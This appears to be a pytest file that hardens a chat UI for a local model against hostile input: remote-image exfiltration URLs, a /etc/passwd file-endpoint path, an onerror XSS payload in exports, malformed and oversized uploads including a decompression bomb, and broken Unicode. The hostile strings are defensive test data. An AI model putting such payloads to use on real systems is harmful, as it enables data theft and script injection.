"""Hostile input at the screen: pictures that would phone home, markup in exports, uploads a
text-only model would have waved through, and broken Unicode sent through the API."""

import orjson
import pytest
from PIL import Image

from engine.errors import UserFacingError
from engine.generation import GenerationSettings
from engine.loading import load_model
from engine.pool import ModelPool, ModelSpec
from engine.reply import ReplyOptions
from ui.bidi import render_message
from ui.conversation import Conversation
from ui.export import to_markdown

SHORT = ReplyOptions(settings=GenerationSettings(temperature=0, max_new_tokens=4, repetition_penalty=1.0))


@pytest.mark.parametrize("text,shown", [
    ("![chart](https://evil.example/p.png?leak=anemia)", "![chart](https://evil.example/p.png?leak=anemia)"),
    ("see ![](/gradio_api/file=/etc/passwd)", "![](/gradio_api/file=/etc/passwd)"),
    ("[![x](http://a.example/i.png)](http://b.example)", "![x](http://a.example/i.png)"),
])
def test_no_picture_in_a_message_is_fetched_from_anywhere(text, shown):
    html = render_message(text).html
    assert "<img" not in html and shown in html  # shown as written, as text


def test_bidi_controls_never_reach_the_screen():
    html = render_message("Dose: \u202e05\u202c mg").html
    assert "\u202e" not in html and "05 mg" in html


def test_the_markdown_export_holds_no_markup_from_a_message():
    record = {"model": {"title": "m"}, "exported_at": "now", "messages": [
        {"role": "user", "content": "<img src=x onerror=alert(1)> **dose**", "language": "en"}]}
    markdown = to_markdown(record, "en")
    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt; **dose**" in markdown


@pytest.fixture(scope="module")
def text_model(tiny_dirs):
    return load_model(str(tiny_dirs("llama")))


@pytest.mark.parametrize("content,code", [
    (b"", "image_empty"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "image_corrupt"),
    (b"%PDF-1.7 a report", "image_not_an_image"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"></svg>', "image_unsupported_type"),
])
def test_a_text_only_model_still_refuses_a_bad_upload(text_model, tmp_path, content, code):
    upload = tmp_path / "scan.png"
    upload.write_bytes(content)
    conversation = Conversation(text_model)
    with pytest.raises(UserFacingError) as caught:
        conversation.send("what is this?", [str(upload)], SHORT)
    assert caught.value.code == code and conversation.pending is None and conversation.messages == []


def test_a_text_only_model_refuses_a_decompression_bomb_and_a_gif(text_model, tmp_path):
    bomb = tmp_path / "bomb.png"
    Image.new("1", (30_000, 30_000)).save(bomb)  # a few KB on disk, 900 million pixels
    gif = tmp_path / "anim.png"
    Image.new("RGB", (8, 8)).save(gif, format="GIF")
    conversation = Conversation(text_model)
    for upload, code in ((bomb, "image_too_large"), (gif, "image_unsupported_type")):
        with pytest.raises(UserFacingError) as caught:
            conversation.send("look", [str(upload)], SHORT)
        assert caught.value.code == code


def test_broken_unicode_through_the_api_gets_a_message_and_a_box_the_browser_can_take(tiny_dirs, monkeypatch):
    from ui.handlers import ChatHandlers

    warnings = []
    monkeypatch.setattr("ui.common.gr.Warning", lambda text, **_: warnings.append(text))
    handlers = ChatHandlers(ModelPool([ModelSpec(str(tiny_dirs("llama")))]))
    outputs = list(handlers.respond({"text": "hi \ud800", "files": []}, None, "auto", 0, 0.9, 4, 1.0, -1, "none", "ar"))
    shown, box, _ = outputs[-1]
    assert shown == [] and box["text"] == "hi \ufffd" and "يونيكود" in warnings[0]
    orjson.dumps([shown, box])  # what Gradio sends back: no lone surrogate left in it
